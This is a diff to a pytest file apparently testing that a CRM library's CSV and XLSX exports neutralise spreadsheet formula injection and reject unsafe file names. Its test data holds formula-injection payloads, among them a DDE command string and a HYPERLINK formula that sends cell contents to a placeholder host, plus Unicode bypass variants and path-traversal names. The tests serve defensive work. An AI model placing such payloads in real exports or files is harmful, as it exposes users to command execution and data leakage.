@@ -6,6 +6,7 @@ Oracle: what csv and openpyxl read back, cell by cell, from the bytes written.
 import csv
 import io
 import json
+import re
 
 import nbformat
 import openpyxl
@@ -16,7 +17,15 @@ from crmlib.errors import InputError
 from crmlib.report.attachments import file_bytes
 from crmlib.report.execution import Execution
 
-HOSTILE = ["=1+1", "+49 30 1234", "-cmd", "@SUM(A1)", "\t=1", " =1", "|x", "%x", "\r=1"]
+HOSTILE = [
+    *("=1+1", "+49 30 1234", "-cmd", "@SUM(A1)", "\t=1", " =1", "|x", "%x", "\r=1", "\n=1"),
+    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0"),
+    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000＝1", "\u00a0=1", "\u200b=1", "\ufeff=1"),
+    *("\u202e=1", "\x00=1", "\x1b=1", "\t", "\rx", "\nx", "\tx", "%0A=1"),
+]
+# Harmless in one cell, and a formula where a spreadsheet cuts the cell in two.
+CUT_IN_TWO = ["a;=1+1", "a;\t=1;b", 'a";=1+1;"', "a\n=1+1", "a\r\n@x", "a\t=1", "a;＝1", "x; -1"]
+FORMULA = re.compile(r"[\s\u200b-\u202e\ufeff\x00-\x1f]*[=+\-@＝＋－＠]")
 
 
 def rows_of(content: bytes, name: str) -> list[list]:
@@ -33,8 +42,28 @@ def test_no_text_begins_like_a_formula(name):
     header, *rows = rows_of(file_bytes(df, name), name)
     assert header == ["'=name", "money"]
     for row in rows:
+        assert row[0] is not None
         assert row[0].startswith("'")
         assert float(row[1]) == -1.5
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_cell_is_a_formula_wherever_a_spreadsheet_cuts(separator):
+    texts = [*HOSTILE, *CUT_IN_TWO]
+    df = pd.DataFrame({f"n{separator}=1": range(len(texts)), "text": texts, "last": texts})
+    text = file_bytes(df, "list.csv").decode("utf-8-sig")
+    # As Excel does it: a quotation mark counts only at the beginning of a cell.
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        assert not [cell for cell in row if FORMULA.match(cell)]
+
+
+@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
+def test_signs_that_no_file_may_hold_break_nothing(name):
+    df = pd.DataFrame({"a\x00b": pd.Series(["\x1b[31mred", "a\x0bb"], dtype=object)})
+    header, *rows = rows_of(file_bytes(df, name), name)
+    assert len(rows) == 2
+    if name.endswith(".xlsx"):
+        assert [header, *rows] == [["a\ufffdb"], ["\ufffd[31mred"], ["a\ufffdb"]]
 
 
 @pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
@@ -53,7 +82,13 @@ def test_the_same_rows_give_the_same_bytes(name, monkeypatch):
     assert file_bytes(df, name) == first
 
 
-@pytest.mark.parametrize("name", ["../x.csv", "run.json", "A.csv", "x.csv.exe", "", "a b.csv"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("../x.csv", "run.json", "A.csv", "x.csv.exe", "", "a b.csv", "/x.csv", "a/b.csv"),
+        *("x.csv\n", "\nx.csv", "x.csv\0", ".csv", "..csv", "c:x.csv", "a\\b.csv", "é.csv"),
+    ],
+)
 def test_a_name_that_is_not_a_plain_list_is_refused(name):
     with pytest.raises(InputError, match="file name"):
         file_bytes(pd.DataFrame({"a": [1]}), name)
